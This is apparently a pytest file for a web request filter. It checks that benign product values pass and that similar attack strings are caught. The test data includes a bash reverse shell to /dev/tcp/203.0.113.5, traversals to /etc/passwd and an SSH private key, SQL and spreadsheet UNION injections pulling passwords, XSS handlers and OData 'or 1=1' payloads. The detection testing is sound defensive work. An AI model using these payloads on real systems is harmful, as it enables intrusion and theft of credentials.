"""Values that products take by their own rules pass; the same signs in a piece of one do not."""

from __future__ import annotations

import json

import pytest
from web_requests import stops

from signoff.actions.action import Json

JSON = {"content-type": "application/json"}
SHELL = json.dumps("#!/bin/bash\napt-get update && apt-get install -y nginx\n")
RULES = 'path "secret/data/../app/*" { capabilities = ["read"] }\npath "sys/*" { }'


@pytest.mark.parametrize(
    ("body", "is_found"),
    [
        ({"key_": "vfs.file.cksum[/etc/passwd]"}, False),
        ({"key_": 'vfs.file.regexp[/etc/passwd,"^zabbix:.:([0-9]+)",,,,\\1]'}, False),
        ({"key_": "vfs.file.cksum[/etc/passwd]/../../etc/passwd"}, True),
        ({"key_": "vfs.file.contents[/etc/../../root/.ssh/id_rsa]"}, True),
        ({"key_": "[/etc/passwd]"}, True),
        ({"values": [["=QUERY(A1:D,\"select A where C = 'x' group by A\")"]]}, False),
        ({"a": "=QUERY(A1:D,\"select A where C = 'or 1 or' group by A\")"}, True),
        ({"a": "=QUERY(A1,\"select A where C = '' union select password from users\")--"}, True),
        ({"user_data": SHELL}, False),
        ({"hostname": SHELL}, True),
        ({"user_data": json.dumps("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/9 0>&1\n")}, True),
        ({"policy": RULES}, False),
        ({"name": RULES}, True),
        ({"body": "SELECT a FROM t1 UNION SELECT b FROM t2"}, False),
        ({"body": "1 UNION SELECT b FROM t2"}, True),
        ({"body": "SELECT a FROM t1 UNION SELECT password FROM users"}, True),
        ({"comment": "It stops at: open file://C:\\tmp\\a.txt, then"}, False),
        ({"comment": "file:///etc/passwd then"}, True),
        ({"url": "It stops at: open file://C:\\tmp\\a.txt, then"}, True),
        ({"readme": "Put it all into ..\\Game\\Mods, please"}, False),
        ({"readme": "..\\Game\\Mods"}, True),
        ({"readme": "Put it all into ..\\..\\..\\windows\\win.ini"}, True),
        ({"filename": "Put it all into ..\\Game\\Mods, please"}, True),
        (
            {"ViewXml": '<View><Eq><FieldRef Name="T"/><Value Type="Text">O</Value></Eq></View>'},
            False,
        ),
        ({"ViewXml": "<View><script>fetch(name)</script></View>"}, True),
        ({"ViewXml": '<View onclick="fetch(name)"><Eq><FieldRef Name="T"/></Eq></View>'}, True),
        ({"message": "Add a test for <img onerror> to the suite"}, False),
        ({"message": "Add a test for <img onerror=x()> to the suite"}, True),
    ],
)
def test_values_of_products(body: Json, *, is_found: bool) -> None:
    """Each excuse has the attack beside it that tries it."""
    assert is_found is stops(headers=JSON, body=json.dumps(body))


@pytest.mark.parametrize(
    ("query", "is_found"),
    [
        ({"$filter": "contains(Name,'O''Neil') and not endswith(Code,'--')"}, False),
        ({"$filter": "Name eq 'x' or 1=1 --'"}, True),
        ({"$filter": "Name eq 'x' or '1'='1'--"}, True),
        ({"q": 'status:500 AND NOT agent:"sqlmap/1.8"'}, False),
        ({"q": "sqlmap/1.8"}, True),
    ],
)
def test_searches_of_products(query: dict[str, str], *, is_found: bool) -> None:
    """A comment of SQL within a literal is part of it; the name of a scanner may be looked for."""
    assert is_found is stops(method="GET", query=query)
